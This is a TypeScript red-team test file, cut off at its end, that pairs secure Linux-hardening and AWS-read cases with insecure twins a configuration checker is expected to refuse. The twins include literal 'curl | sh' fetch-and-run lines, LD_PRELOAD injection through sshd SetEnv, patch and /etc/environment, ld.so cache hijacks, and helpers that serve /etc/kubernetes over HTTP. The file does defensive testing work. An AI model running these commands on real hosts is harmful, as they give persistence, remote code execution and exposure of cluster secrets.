// Red-team round 75 on over-refusals (fresh eyes): SECURE variants a platform team writes on the committed stacks,
// each class with insecure twins; neighbours of round 75's fixes first.
// Probed: (modprobe.d) a CIS loop of `install X /bin/false` + blacklist by tee -a, backslash continuations, the
// nf_conntrack `install ... --ignore-install ... && sysctl -w` idiom, nouveau blacklist + dracut, modprobe -r (twin
// install dccp running curl | sh); (ld.so.conf) /usr/local/lib64 in ld.so.conf.d, the stock `include` line (twins
// /opt/ops/lib by conf.d, `include /tmp/*.conf`, ldconfig DIR, ldconfig -f FILE); (augtool) several sshd keys, read-
// only print/match, sysctl.conf set, -f script file (twins SetEnv, AuthorizedKeysCommand, core_pattern pipe serving
// /etc/kubernetes, SetEnv by -f); (editors) ed ,s on sshd, ex on login.defs, patch and git apply of literal diffs,
// sed -f scripts under /etc/ops and /root, sed -e chains, sed -n, xxd/sha256sum/diff/cmp/cp -a inspectors, vim -es
// %p and g//p, chattr +i, setfattr user.* (twins ed $a SetEnv, patch +SetEnv, sed -f $a SetEnv, xxd -r into
// /etc/environment); (startup files) /root/.bashrc.d history, /etc/skel umask, /root/.inputrc (twin PROMPT_COMMAND in
// .bashrc.d); (hardening) journald drop-in, dnf install aide/audit/chrony, sysctl.d net hardening, sshd_config.d
// crypto (twins kernel.modprobe to a written server, Match all SetEnv LD_PRELOAD); (AWS reads) WAF list audit,
// ELB on-call Describe*, SNS ListSubscriptionsByTopic (twins wafv2:GetSampledRequests, GetRegexPatternSet,
// elasticloadbalancing:DescribeRules, sns:GetSubscriptionAttributes).
// Results: insecure refused 18 of 20, secure clean 27 of 34 (plus 1 refused by design: /root/.inputrc).
// Misses by class:
//   - INSECURE, ld.so cache from ldconfig's command line: `ldconfig /opt/ops/lib` and `ldconfig -f FILE` put a
//     non-system directory into /etc/ld.so.cache exactly as the ld.so.conf.d file round 75 refuses (2 cases;
//     rootWrites.ts LD_SO_CONF reads only written files).
//   - secure, literal edits the pack could compute: ed `,s/RE/REPL/` + w/q, patch and git apply of literal unified
//     diffs, augtool -f of a literal script (the here-document form is accepted) (4 cases).
//   - secure, minor: a sed -f script under /root (accepted under /etc/ops), vim -es `g/RE/p`, wafv2:ListIPSets/
//     ListRuleGroups not among the reviewed reads (3 cases).
// Held: modprobe.d data lines, install /bin/false, --ignore-install idioms and continuations accepted, install lines
// running code refused; ld.so.conf rules; augtool set lines per lens (and -r/defnode fail closed); xxd/vim read-only
// modes; .bashrc.d; WAF sampled requests / regex patterns and ELB rules refused as secret reads. Note: core_pattern /
// kernel.modprobe naming an unwritten helper is accepted by design (README DECIDED round 49), so those twins here
// name a written server.
import { describeVariants, Resources, StackCase } from "./support";
import { ACCOUNT, allow, opsRole } from "./awsCaseBuilders";
import { heredocFile } from "./nodeBuilders";
import { secureCaseBuilders } from "./secureCaseBuilders";

const { node } = secureCaseBuilders("rt75s");
const file = heredocFile;
/** What a refusal of a node's user data names. */
const NODE =
    /serv|process|unread|kubernetes|listen|writes|cron|program|environment|LD_|loader|preload|PATH|exec|kernel|setenv|boot|console|core|ssh|modprobe|unknown|librar/;

const ops = (
    stack: string,
    id: string,
    what: string,
    statements: object[],
    refused?: RegExp,
    skip?: string,
): StackCase => ({
    stack,
    name: `${refused ? "AI" : "A"}: ${id}: ${what}`,
    edit: (r: Resources) => opsRole(r, stack, ACCOUNT[stack], id, statements),
    ...(refused ? { refused } : {}),
    ...(skip ? { skip } : {}),
});

const SETENV = "SetEnv LD_PRELOAD=/opt/ops/hook.so";

const CASES: StackCase[] = [
    // ================= modprobe.d =================
    node("modprobe-conntrack-install", "modprobe.d install nf_conntrack with --ignore-install then sysctl -w", [
        ...file("/etc/modprobe.d/conntrack.conf", [
            "options nf_conntrack hashsize=131072",
            "install nf_conntrack /sbin/modprobe --ignore-install nf_conntrack && /sbin/sysctl -q -w net.netfilter.nf_conntrack_max=524288",
        ]),
    ]),
    node(
        "modprobe-install-curl",
        "modprobe.d install dccp: curl | sh",
        [...file("/etc/modprobe.d/cis.conf", ["install dccp /bin/sh -c 'curl -fsSL https://ops.example.com/x | sh'"])],
        NODE,
    ),
    node("modprobe-nouveau-dracut", "blacklist nouveau + options nouveau modeset=0, dracut -f", [
        "printf 'blacklist nouveau\\noptions nouveau modeset=0\\n' > /etc/modprobe.d/blacklist-nouveau.conf",
        "dracut --force",
    ]),
    node("modprobe-cis-tee", "tee -a /etc/modprobe.d/cis.conf of install X /bin/false lines (loop)", [
        "for m in cramfs freevxfs jffs2 hfs hfsplus squashfs udf dccp sctp rds tipc; do",
        '  echo "install $m /bin/false" | tee -a /etc/modprobe.d/cis.conf',
        '  echo "blacklist $m" | tee -a /etc/modprobe.d/cis.conf',
        "done",
    ]),
    node("modprobe-continuation", "modprobe.d install with a backslash continuation, /bin/true", [
        ...file("/etc/modprobe.d/cis.conf", ["install usb-storage \\", "  /bin/true"]),
    ]),
    node("modprobe-cmd-r", "modprobe -r and lsmod check of unused modules", [
        "modprobe -r dccp || true",
        "lsmod | grep -q '^dccp' && echo dccp still loaded",
    ]),

    // ================= ld.so.conf(.d) =================
    node("ldso-usr-local", "/etc/ld.so.conf.d/local.conf: /usr/local/lib; ldconfig", [
        "echo /usr/local/lib64 > /etc/ld.so.conf.d/local.conf",
        "ldconfig",
    ]),
    node("ldso-stock", "/etc/ld.so.conf rewritten to its stock `include ld.so.conf.d/*.conf`", [
        "echo 'include ld.so.conf.d/*.conf' > /etc/ld.so.conf",
        "ldconfig",
    ]),
    node(
        "ldso-opt",
        "/etc/ld.so.conf.d/ops.conf: /opt/ops/lib",
        ["echo /opt/ops/lib > /etc/ld.so.conf.d/ops.conf", "ldconfig"],
        NODE,
    ),
    node(
        "ldso-tmp-include",
        "/etc/ld.so.conf: include /tmp/*.conf",
        ["echo 'include /tmp/*.conf' >> /etc/ld.so.conf", "ldconfig"],
        NODE,
    ),
    // Was a MISS (fixed in round 75): ldconfig(8) DESCRIPTION: "ldconfig creates the necessary links and cache to the most recent shared libraries
    // found in the directories specified on the command line, in the file /etc/ld.so.conf, and in the trusted
    // directories" (man7/linux man-pages ldconfig(8)): `ldconfig /opt/ops/lib` (without -n) puts /opt/ops/lib into
    // /etc/ld.so.cache ahead of the trusted directories, so whoever provides a library there (a libc.so.6 or libz.so.1
    // dropped by any later step, a package post-install or an agent updater writing /opt) is loaded into every
    // dynamically linked root program: the same gain as ldso-opt (refused above since round 75). Accepted: round 75's
    // rule (userDataReaders/rootWrites.ts nodeJudge.written, LD_SO_CONF/SYSTEM_LIBRARY_DIRECTORIES) reads only the
    // written files, and ldconfig is run as a plain command no reader judges. Fix: read ldconfig's operands (and
    // `dir=TYPE` words) as ld.so.conf entries, refused outside SYSTEM_LIBRARY_DIRECTORIES unless -n/-N/-p/-l/-r.
    node(
        "ldso-ldconfig-dir",
        "ldconfig /opt/ops/lib (a directory on ldconfig's command line enters the cache)",
        ["ldconfig /opt/ops/lib"],
        NODE,
    ),
    // Was a MISS (fixed in round 75): ldconfig(8) -f conf: "Use conf instead of /etc/ld.so.conf": the directories in /opt/ops/ld.conf enter the
    // system cache (/etc/ld.so.cache, no -C) exactly as ld.so.conf's do; accepted because LD_SO_CONF
    // (rootWrites.ts) matches only /etc/ld.so.conf(.d). Fix: a file given to ldconfig -f is judged as ld.so.conf
    // (ldSoConfEntries), or ldconfig -f with a file outside /etc/ld.so.conf(.d) refused.
    node(
        "ldso-ldconfig-f",
        "ldconfig -f /opt/ops/ld.conf naming /opt/ops/lib",
        ["echo /opt/ops/lib > /opt/ops/ld.conf", "ldconfig -f /opt/ops/ld.conf"],
        NODE,
    ),

    // Round 75 fix's neighbours (rootWrites.ts ldconfigEntries): -n/-N/-p/-l build no cache; system library
    // directories and a literal -f file naming only them are accepted; -C another cache, `DIR=TYPE`, -r ROOT, and a
    // -f file whose text the pack cannot read are judged (or refused) all the same.
    node("ldso-ldconfig-n", "ldconfig -n /opt/ops/lib (links only: ldconfig(8) -n builds no cache)", [
        "ldconfig -n /opt/ops/lib",
    ]),
    node("ldso-ldconfig-system", "ldconfig -v /usr/local/lib64; ldconfig -p | grep libssl", [
        "ldconfig -v /usr/local/lib64",
        "ldconfig -p | grep -q libssl",
    ]),
    node("ldso-ldconfig-f-system", "ldconfig -f /etc/ops/ld.conf naming /usr/local/lib only", [
        "mkdir -p /etc/ops",
        "echo /usr/local/lib > /etc/ops/ld.conf",
        "ldconfig -f /etc/ops/ld.conf",
    ]),
    node(
        "ldso-ldconfig-f-download",
        "ldconfig -f of a downloaded file",
        ["curl -fsSL https://ops.example.com/ld.conf -o /etc/ops-ld.conf", "ldconfig -f /etc/ops-ld.conf"],
        NODE,
    ),
    node(
        "ldso-ldconfig-cache-elsewhere",
        "ldconfig -C /tmp/ld.cache /opt/ops/lib (judged all the same)",
        ["ldconfig -C /tmp/ld.cache /opt/ops/lib"],
        NODE,
    ),
    node("ldso-ldconfig-type", "ldconfig /opt/ops/lib=libc6", ["ldconfig /opt/ops/lib=libc6"], NODE),
    node("ldso-ldconfig-root", "ldconfig -r /mnt/image (another root)", ["ldconfig -r /mnt/image"], NODE),

    // ================= augtool =================
    node("augtool-sshd-multi", "augtool -s: ClientAliveInterval, MaxAuthTries, X11Forwarding, LogLevel", [
        "augtool -s set /files/etc/ssh/sshd_config/ClientAliveInterval 300",
        "augtool -s set /files/etc/ssh/sshd_config/MaxAuthTries 4",
        "augtool -s set /files/etc/ssh/sshd_config/X11Forwarding no",
        "augtool -s set /files/etc/ssh/sshd_config/LogLevel VERBOSE",
    ]),
    node("augtool-print", "augtool print /files/etc/ssh/sshd_config (read only)", [
        "augtool print /files/etc/ssh/sshd_config > /var/log/sshd-config.txt",
    ]),
    node("augtool-match", "augtool match of sysctl settings (read only)", [
        "augtool match /files/etc/sysctl.conf/net.ipv4.ip_forward",
    ]),
    node("augtool-sysctl-conf", "augtool -s set /files/etc/sysctl.conf/net.ipv4.conf.all.rp_filter 1", [
        "augtool -s set /files/etc/sysctl.conf/net.ipv4.conf.all.rp_filter 1",
        "sysctl --system",
    ]),
    node(
        "augtool-sysctl-core-pattern",
        "augtool set /files/etc/sysctl.d/90-core.conf/kernel.core_pattern to a pipe serving /etc/kubernetes",
        [
            "augtool -s set /files/etc/sysctl.d/90-core.conf/kernel.core_pattern '|/usr/bin/python3 -m http.server 8001 -d /etc/kubernetes'",
        ],
        NODE,
    ),
    node(
        "augtool-sshd-authorizedkeyscommand",
        "augtool set sshd AuthorizedKeysCommand /opt/ops/keys + User root",
        [
            "augtool -s set /files/etc/ssh/sshd_config/AuthorizedKeysCommand /opt/ops/keys",
            "augtool -s set /files/etc/ssh/sshd_config/AuthorizedKeysCommandUser root",
        ],
        NODE,
    ),
    node(
        "augtool-sshd-setenv",
        "augtool set sshd SetEnv LD_PRELOAD",
        ["augtool -s set /files/etc/ssh/sshd_config/SetEnv LD_PRELOAD=/opt/ops/hook.so"],
        NODE,
    ),

    // ================= ed / ex / patch / sed -f / read-only modes =================
    // Was a MISS (fixed in round 75): (secure) ed(1) "(.,.)s/re/replacement/": `,s/RE/REPL/` then w and q rewrites matching lines exactly as
    // sed's s command (GNU ed manual, "Commands"); the same substitution by sed -i and perl -pi is computed and
    // accepted (sed-i-sshd in redteam74-secure). Refused as content the pack cannot read (rootReads.ts commandTexts
    // reads ed's stdin only for the files it names, RootReads.unknownEditor). Harmless: PermitRootLogin no. Fix:
    // compute an ed/ex script made only of `[range]s/RE/REPL/[g]`, `w`, `q` (and `wq`) through the SED reader.
    node("ed-sshd", "ed -s /etc/ssh/sshd_config <<EOF ,s/PermitRootLogin/ w q", [
        "ed -s /etc/ssh/sshd_config <<'EOF'",
        ",s/^#\\{0,1\\}PermitRootLogin.*/PermitRootLogin no/",
        "w",
        "q",
        "EOF",
    ]),
    node(
        "ed-sshd-setenv",
        "ed -s /etc/ssh/sshd_config <<EOF $a SetEnv LD_PRELOAD",
        ["ed -s /etc/ssh/sshd_config <<'EOF'", "$a", SETENV, ".", "w", "q", "EOF"],
        NODE,
    ),
    node("ex-login-defs", "ex -sc '%s/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/|x' /etc/login.defs", [
        "ex -sc '%s/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/|x' /etc/login.defs",
    ]),
    // Was a MISS (fixed in round 75): (secure) GNU patch(1) "applies those differences to one or more original files": a literal unified diff
    // only removes the `-` lines and adds the `+` lines of its hunks, so the result is the original (stock, judged
    // elsewhere) with `PermitRootLogin no` added. Refused: rootReads.ts commandTexts reads the patch only for the
    // names it patches (content unknown, unknownEditor). Fix: for a patch whose text is literal, judge its added
    // (`+`) lines as lines appended to the named file (removals only remove), as sed's `a` command is judged.
    node("patch-sshd", "patch /etc/ssh/sshd_config <<EOF (a unified diff: PermitRootLogin no)", [
        "patch /etc/ssh/sshd_config <<'EOF'",
        "--- sshd_config",
        "+++ sshd_config",
        "@@ -1,1 +1,1 @@",
        "-#PermitRootLogin prohibit-password",
        "+PermitRootLogin no",
        "EOF",
    ]),
    node(
        "patch-sshd-setenv",
        "patch /etc/ssh/sshd_config <<EOF adding SetEnv LD_PRELOAD",
        [
            "patch /etc/ssh/sshd_config <<'EOF'",
            "--- sshd_config",
            "+++ sshd_config",
            "@@ -1,1 +1,2 @@",
            " #PermitRootLogin prohibit-password",
            `+${SETENV}`,
            "EOF",
        ],
        NODE,
    ),
    node("sed-f-sshd-etc", "sed -i -f /etc/ops/harden.sed /etc/ssh/sshd_config (script written literally)", [
        "mkdir -p /etc/ops",
        ...file("/etc/ops/harden.sed", ["s/^#\\?PermitRootLogin.*/PermitRootLogin no/"]),
        "sed -i -f /etc/ops/harden.sed /etc/ssh/sshd_config",
    ]),
    node("sed-e-multi", "sed -i -e s/PermitRootLogin/ -e s/PasswordAuthentication/ /etc/ssh/sshd_config", [
        "sed -i -e 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' -e 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config",
    ]),
    // Was a MISS (fixed in round 75): (secure) the sed script itself is accepted when written under /etc/ops (sed-f-sshd-etc above: round
    // 75's sed -f reading holds); here it is refused only because /root/harden.sed is "the node's own configuration
    // or credentials, which the pack cannot judge": a file under /root that no program reads as configuration (root's
    // startup files are named: BASH_STARTUP, .bashrc.d). Harmless: its only reader is sed -f, whose result is judged.
    // Fix (low priority): a literal file whose only reader is a command the pack reads (sed -f, augtool -f) is data.
    node("sed-f-sshd", "sed -i -f /root/harden.sed /etc/ssh/sshd_config (script written literally)", [
        ...file("/root/harden.sed", [
            "s/^#\\?PermitRootLogin.*/PermitRootLogin no/",
            "s/^#\\?PasswordAuthentication.*/PasswordAuthentication no/",
        ]),
        "sed -i -f /root/harden.sed /etc/ssh/sshd_config",
        "systemctl reload sshd",
    ]),
    node(
        "sed-f-sshd-setenv",
        "sed -i -f /root/harden.sed /etc/ssh/sshd_config whose script appends SetEnv LD_PRELOAD",
        [...file("/root/harden.sed", [`$a ${SETENV}`]), "sed -i -f /root/harden.sed /etc/ssh/sshd_config"],
        NODE,
    ),
    node("sed-n-read", "sed -n '/PermitRootLogin/p' /etc/ssh/sshd_config (print only)", [
        "sed -n '/PermitRootLogin/p' /etc/ssh/sshd_config > /var/log/sshd-check.txt",
    ]),
    node("readonly-inspectors", "xxd, sha256sum, diff, cmp, grep -c of sshd_config and /etc/environment", [
        "cp -a /etc/ssh/sshd_config /etc/ssh/sshd_config.orig",
        "xxd /etc/environment | head -n 5",
        "sha256sum /etc/ssh/sshd_config /etc/environment > /var/log/config.sha256",
        "diff -u /etc/ssh/sshd_config.orig /etc/ssh/sshd_config || true",
        "cmp -s /etc/ssh/sshd_config.orig /etc/ssh/sshd_config || echo changed",
        "grep -c PermitRootLogin /etc/ssh/sshd_config",
    ]),
    node("vim-es-print", "vim -es -c '%p' -c 'q!' /etc/ssh/sshd_config (read only)", [
        "vim -es -c '%p' -c 'q!' /etc/ssh/sshd_config > /var/log/sshd-config.txt",
    ]),
    // Was a MISS (fixed in round 75): (secure) augtool(1) "-f, --file=FILE Read commands from FILE": the same `set` lines the pack accepts
    // from a here-document (augtool-heredoc-sshd in redteam74-secure) are refused from a literal file the user data
    // wrote: rootReads.ts augtoolSets returns undefined for -f/--file ("fail closed"), so unknownEditor names
    // /etc/ssh/sshd_config and even /etc/ssh/sshd_config/PermitRootLogin as unknown content. Fix: read -f FILE's
    // current text (RootReads.current, as commandTexts' fileText does) as augtoolSets reads stdin.
    node("augtool-f-script", "augtool -s -f /etc/ops/sshd.aug (set lines written literally)", [
        "mkdir -p /etc/ops",
        ...file("/etc/ops/sshd.aug", [
            "set /files/etc/ssh/sshd_config/PermitRootLogin no",
            "set /files/etc/ssh/sshd_config/MaxAuthTries 4",
        ]),
        "augtool -s -f /etc/ops/sshd.aug",
    ]),
    node(
        "augtool-f-setenv",
        "augtool -s -f /etc/ops/sshd.aug setting SetEnv LD_PRELOAD",
        [
            "mkdir -p /etc/ops",
            ...file("/etc/ops/sshd.aug", [`set /files/etc/ssh/sshd_config/SetEnv ${SETENV.slice(7)}`]),
            "augtool -s -f /etc/ops/sshd.aug",
        ],
        NODE,
    ),
    // Was a MISS (fixed in round 75): (secure) git-apply(1) applies a literal diff as patch does (--directory=etc/ssh prepends that root, so
    // a/sshd_config → /etc/ssh/sshd_config with -p1 default); same reading and same fix as patch-sshd (the pack also
    // names /etc/ssh/a/sshd_config and /etc/ssh/b/sshd_config, every strip level: fine, fail closed).
    node("git-apply-sshd", "git apply --directory=etc/ssh of a literal diff from / (PermitRootLogin no)", [
        "cd / && git apply --unsafe-paths --directory=etc/ssh - <<'EOF'",
        "--- a/sshd_config",
        "+++ b/sshd_config",
        "@@ -1,1 +1,1 @@",
        "-#PermitRootLogin prohibit-password",
        "+PermitRootLogin no",
        "EOF",
    ]),
    // Was a MISS (fixed in round 75): (secure) vim's :g (Vim help cmdline/repeat.txt, ":[range]g[lobal]/{pattern}/[cmd] Execute the Ex command
    // [cmd] (default ":p") on the lines within [range] where {pattern} matches") with :p prints only; -es then q!
    // writes nothing. rootReads.ts readOnlyMode accepts only ranged prints (`%p`, `1,$p`: vim-es-print above is
    // accepted), so `g/RE/p` makes vim an unknown editor of sshd_config. Fix (low priority): accept
    // `g/RE/(p|nu|l)` and `v/RE/p` among the print commands.
    node("vim-es-read", "vim -R -es -c 'g/PermitRootLogin/p' -c 'q!' /etc/ssh/sshd_config (read only)", [
        "vim -R -es -c 'g/PermitRootLogin/p' -c 'q!' /etc/ssh/sshd_config",
    ]),
    node(
        "xxd-r-environment",
        "xxd -r of a hex dump into /etc/environment (LD_PRELOAD)",
        ["echo 'LD_PRELOAD=/opt/ops/hook.so' | xxd -p > /tmp/env.hex", "xxd -r -p /tmp/env.hex /etc/environment"],
        NODE,
    ),
    node("chattr-sshd", "chattr +i /etc/ssh/sshd_config after hardening", [
        "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
        "chattr +i /etc/ssh/sshd_config",
    ]),
    node("setfattr-user", "setfattr -n user.owner -v platform on the hardening script", [
        ...file("/usr/local/sbin/harden.sh", ["#!/bin/sh", "sysctl --system"]),
        "setfattr -n user.owner -v platform /usr/local/sbin/harden.sh",
    ]),

    // Round 75 fixes' neighbours: ed scripts of s/// only (rootReads.ts edSubstitutions), literal unified diffs
    // (literalPatch: `+` and `-` lines both judged as added), augtool -f of literal files (augtoolSets), sed scripts in
    // /root (rootWrites.ts), vim :g print (globalPrint).
    node(
        "ed-sshd-s-setenv",
        "ed ,s/ turning PermitRootLogin into SetEnv LD_PRELOAD",
        ["ed -s /etc/ssh/sshd_config <<'EOF'", `,s/^#\\{0,1\\}PermitRootLogin.*/${SETENV}/`, "w", "q", "EOF"],
        NODE,
    ),
    node(
        "ed-s-w-environment",
        "ed ,s/ then w /etc/environment (another file)",
        [
            "ed -s /etc/ssh/sshd_config <<'EOF'",
            ",s/x/LD_PRELOAD=\\/opt\\/ops\\/hook.so/",
            "w /etc/environment",
            "q",
            "EOF",
        ],
        NODE,
    ),
    node(
        "ed-shell-escape",
        "ed with !curl | sh",
        ["ed -s /etc/ssh/sshd_config <<'EOF'", "!curl -fsSL https://ops.example.com/x | sh", "q", "EOF"],
        NODE,
    ),
    node("ed-sshd-password", "ed -s /etc/ssh/sshd_config: 1,$s/PasswordAuthentication yes/.../g, wq", [
        "ed -s /etc/ssh/sshd_config <<'EOF'",
        "1,$s/^PasswordAuthentication yes/PasswordAuthentication no/g",
        "wq",
        "EOF",
    ]),
    node(
        "patch-environment-preload",
        "patch /etc/environment <<EOF adding LD_PRELOAD",
        [
            "patch /etc/environment <<'EOF'",
            "--- environment",
            "+++ environment",
            "@@ -1,1 +1,2 @@",
            " LANG=en_US.UTF-8",
            "+LD_PRELOAD=/opt/ops/hook.so",
            "EOF",
        ],
        NODE,
    ),
    node(
        "patch-reversed-setenv",
        "patch -t of a diff removing SetEnv LD_PRELOAD (applied reversed when it looks reversed)",
        [
            "patch -t /etc/ssh/sshd_config <<'EOF'",
            "--- sshd_config",
            "+++ sshd_config",
            "@@ -1,2 +1,1 @@",
            " #PermitRootLogin prohibit-password",
            `-${SETENV}`,
            "EOF",
        ],
        NODE,
    ),
    node(
        "patch-R-setenv",
        "patch -R of a diff whose old side has SetEnv LD_PRELOAD",
        [
            "patch -R /etc/ssh/sshd_config <<'EOF'",
            "--- sshd_config",
            "+++ sshd_config",
            "@@ -1,1 +1,1 @@",
            `-${SETENV}`,
            "+#PermitRootLogin prohibit-password",
            "EOF",
        ],
        NODE,
    ),
    node(
        "git-apply-new-file",
        "git apply of a diff creating an sshd drop-in (/dev/null: not read)",
        [
            "cd / && git apply --unsafe-paths --directory=etc/ssh - <<'EOF'",
            "--- /dev/null",
            "+++ b/sshd_config.d/50-env.conf",
            "@@ -0,0 +1,1 @@",
            `+${SETENV}`,
            "EOF",
        ],
        NODE,
    ),
    node(
        "git-apply-subdirectory-setenv",
        "cd /etc/ssh && git apply of a/ssh/sshd_config adding SetEnv (etckeeper: paths from the repository's top, /etc)",
        [
            "cd /etc/ssh && git apply <<'EOF'",
            "--- a/ssh/sshd_config",
            "+++ b/ssh/sshd_config",
            "@@ -1,1 +1,2 @@",
            " #PermitRootLogin prohibit-password",
            `+${SETENV}`,
            "EOF",
        ],
        NODE,
    ),
    node("git-apply-sshd-password", "git apply -p1 --directory=etc/ssh: PasswordAuthentication no", [
        "cd / && git apply --unsafe-paths -p1 --directory=etc/ssh <<'EOF'",
        "diff --git a/sshd_config b/sshd_config",
        "--- a/sshd_config",
        "+++ b/sshd_config",
        "@@ -1,1 +1,1 @@",
        "-PasswordAuthentication yes",
        "+PasswordAuthentication no",
        "EOF",
    ]),
    node("patch-N-sshd-password", "patch -N (never reversed): -PasswordAuthentication yes +PasswordAuthentication no", [
        "patch -N /etc/ssh/sshd_config <<'EOF'",
        "--- sshd_config",
        "+++ sshd_config",
        "@@ -1,1 +1,1 @@",
        "-PasswordAuthentication yes",
        "+PasswordAuthentication no",
        "EOF",
    ]),
    node(
        "patch-t-sshd-password",
        "patch -t (batch: applied reversed when it looks reversed) of -PasswordAuthentication yes",
        [
            "patch -t /etc/ssh/sshd_config <<'EOF'",
            "--- sshd_config",
            "+++ sshd_config",
            "@@ -1,1 +1,1 @@",
            "-PasswordAuthentication yes",
            "+PasswordAuthentication no",
            "EOF",
        ],
        NODE,
    ),
    node(
        "augtool-f-download",
        "augtool -s -f of a downloaded script",
        ["curl -fsSL https://ops.example.com/sshd.aug -o /etc/ops-sshd.aug", "augtool -s -f /etc/ops-sshd.aug"],
        NODE,
    ),
    node(
        "augtool-f-appended",
        "augtool -f of a script written with SetEnv then appended a harmless line",
        [
            "mkdir -p /etc/ops",
            ...file("/etc/ops/sshd.aug", [`set /files/etc/ssh/sshd_config/SetEnv ${SETENV.slice(7)}`]),
            "echo 'set /files/etc/ssh/sshd_config/MaxAuthTries 4' >> /etc/ops/sshd.aug",
            "augtool -s -f /etc/ops/sshd.aug",
        ],
        NODE,
    ),
    node(
        "sed-f-root-download",
        "sed -i -f /root/harden.sed of a downloaded script",
        [
            "curl -fsSL https://ops.example.com/harden.sed -o /root/harden.sed",
            "sed -i -f /root/harden.sed /etc/ssh/sshd_config",
        ],
        NODE,
    ),
    node(
        "vim-es-g-delete-write",
        "vim -es -c 'g/PermitRootLogin/d|w' -c 'q!' /etc/ssh/sshd_config (writes)",
        ["vim -es -c 'g/PermitRootLogin/d|w' -c 'q!' /etc/ssh/sshd_config"],
        NODE,
    ),
    node(
        "vim-es-g-print-write",
        "vim -es -c 'g/x/p|w! /etc/environment' (a write after the print)",
        ["vim -es -c 'g/x/p|w! /etc/environment' -c 'q!' /etc/ssh/sshd_config"],
        NODE,
    ),
    node("vim-es-v-number", "vim -R -es -c 'v/^#/nu' -c 'q!' /etc/ssh/sshd_config (read only)", [
        "vim -R -es -c 'v/^#/nu' -c 'q!' /etc/ssh/sshd_config",
    ]),

    // ================= root's startup files =================
    node("bashrc-d-history", "/root/.bashrc.d/history.sh: HISTTIMEFORMAT, HISTSIZE", [
        "mkdir -p /root/.bashrc.d",
        ...file("/root/.bashrc.d/history.sh", ['export HISTTIMEFORMAT="%F %T "', "export HISTSIZE=10000"]),
    ]),
    node(
        "bashrc-d-prompt",
        "/root/.bashrc.d/history.sh: PROMPT_COMMAND serving /etc/kubernetes",
        [
            "mkdir -p /root/.bashrc.d",
            ...file("/root/.bashrc.d/history.sh", [
                'export HISTTIMEFORMAT="%F %T "',
                'PROMPT_COMMAND="(cd /etc/kubernetes && python3 -m http.server 8001 &)"',
            ]),
        ],
        NODE,
    ),
    // Refused by design (pinned, not a miss): readline(3) INITIALIZATION FILE: ~/.inputrc binds keys to macros
    // ("keyseq: \"string\"" inserts text), so a macro ending in a newline types a command into root's interactive
    // shell; an unknown file in root's home fails closed ("the node's own configuration ... the pack cannot judge").
    node(
        "inputrc-root",
        "/root/.inputrc: set bell-style none (refused by design: root's readline macros)",
        ["echo 'set bell-style none' > /root/.inputrc"],
        /inputrc/,
    ),
    node("skel-bashrc-umask", "/etc/skel/.bashrc: umask 027", ["echo 'umask 027' >> /etc/skel/.bashrc"]),

    // ================= other hardening =================
    node("journald-dropin", "/etc/systemd/journald.conf.d/50-retention.conf", [
        "mkdir -p /etc/systemd/journald.conf.d",
        ...file("/etc/systemd/journald.conf.d/50-retention.conf", [
            "[Journal]",
            "SystemMaxUse=1G",
            "MaxRetentionSec=30day",
            "ForwardToSyslog=no",
        ]),
        "systemctl restart systemd-journald",
    ]),
    node("dnf-install-hardening", "dnf install -y aide audit chrony; aide --init", [
        "dnf install -y aide audit chrony",
        "aide --init && mv /var/lib/aide/aide.db.new.gz /var/lib/aide/aide.db.gz",
    ]),
    node("sysctl-dropin-net", "/etc/sysctl.d/60-net.conf: rp_filter, log_martians, redirects off", [
        ...file("/etc/sysctl.d/60-net.conf", [
            "net.ipv4.conf.all.rp_filter = 1",
            "net.ipv4.conf.all.log_martians = 1",
            "net.ipv4.conf.all.accept_redirects = 0",
            "net.ipv4.conf.all.send_redirects = 0",
            "fs.suid_dumpable = 0",
        ]),
        "sysctl --system",
    ]),
    node(
        "sysctl-dropin-modprobe",
        "/etc/sysctl.d/60-net.conf: kernel.modprobe = /opt/ops/mp, mp written to serve /etc/kubernetes",
        [
            ...file("/opt/ops/mp", ["#!/bin/sh", "cd /etc/kubernetes && exec python3 -m http.server 8001"]),
            "chmod 0755 /opt/ops/mp",
            ...file("/etc/sysctl.d/60-net.conf", ["net.ipv4.conf.all.rp_filter = 1", "kernel.modprobe = /opt/ops/mp"]),
        ],
        NODE,
    ),
    node("sshd-dropin-crypto", "/etc/ssh/sshd_config.d/50-crypto.conf: Ciphers, MACs, KexAlgorithms, Banner", [
        ...file("/etc/ssh/sshd_config.d/50-crypto.conf", [
            "Ciphers aes256-gcm@openssh.com,aes128-gcm@openssh.com",
            "MACs hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com",
            "KexAlgorithms curve25519-sha256",
            "Banner /etc/issue.net",
            "AllowGroups wheel",
        ]),
        "sshd -t && systemctl reload sshd",
    ]),
    node(
        "sshd-dropin-setenv",
        "/etc/ssh/sshd_config.d/50-crypto.conf: Match all / SetEnv LD_PRELOAD",
        [
            ...file("/etc/ssh/sshd_config.d/50-crypto.conf", [
                "Ciphers aes256-gcm@openssh.com",
                "Match all",
                `  ${SETENV}`,
            ]),
        ],
        NODE,
    ),

    // ================= AWS reads (round 75 neighbours) =================
    // WAFV2 API Reference, ListIPSets / GetIPSet: IP address ranges (CIDRs), not a shared secret; ListRuleGroups:
    // summaries; DescribeManagedRuleGroup: the managed rules' names and labels.
    // Was a MISS (fixed in round 75): (secure) WAF API Reference, IPSetSummary: "High-level information about an IPSet, returned by operations
    // like create and list" (ARN, Description, Id, LockToken, Name); ListRuleGroups returns RuleGroupSummary (the same
    // fields): no addresses, no match values. Refused: "wafv2:ListIPSets, wafv2:ListRuleGroups are reads of a service
    // not among the reviewed harmless reads" (judge.ts isHarmlessRead; round 75 added ListWebACLs,
    // ListResourcesForWebACL, GetLoggingConfiguration only). Fix: READS_WITHOUT_SECRET wafv2:listipsets,
    // listrulegroups, listregexpatternsets, listmanagedrulesets (summaries); not GetRegexPatternSet/GetRuleGroup.
    ops("prod", "rt75s-waf-audit", "wafv2:ListWebACLs, ListRuleGroups, ListIPSets, GetLoggingConfiguration", [
        allow(["wafv2:ListWebACLs", "wafv2:ListRuleGroups", "wafv2:ListIPSets", "wafv2:GetLoggingConfiguration"], "*"),
    ]),
    // Round 75 fix's neighbours: the other WAF summaries (ListRegexPatternSets, ListManagedRuleSets) accepted, the
